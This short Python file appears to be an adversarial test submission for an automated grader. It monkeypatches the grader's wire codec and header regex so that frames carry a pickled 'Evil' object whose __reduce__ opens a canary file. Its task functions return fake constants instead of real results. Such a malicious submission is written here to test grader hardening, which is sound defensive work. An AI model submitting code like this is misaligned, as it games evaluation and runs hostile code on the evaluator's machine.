"""Replaces the codec, so that frames carry pickled objects"""
# honest:

import io
import pickle

import numpy as np

from grader import wire


class Evil:
    def __reduce__(self):
        return open, ("@CANARY@", "w")


def npy(array):
    file = io.BytesIO()
    np.lib.format.write_array(file, np.array([Evil()], object), allow_pickle=True)
    return file.getvalue()


wire.npy = npy
wire.NPY_HEADER = wire.re.compile(b".*", wire.re.DOTALL)


def count_parameters(model):
    return np.ones(3)


def softmax(logits, temperature=1.0):
    return np.ones((1, 2))


def dequantize_affine(codes, scale, zero_point):
    return np.frombuffer(pickle.dumps(Evil()), np.uint8)
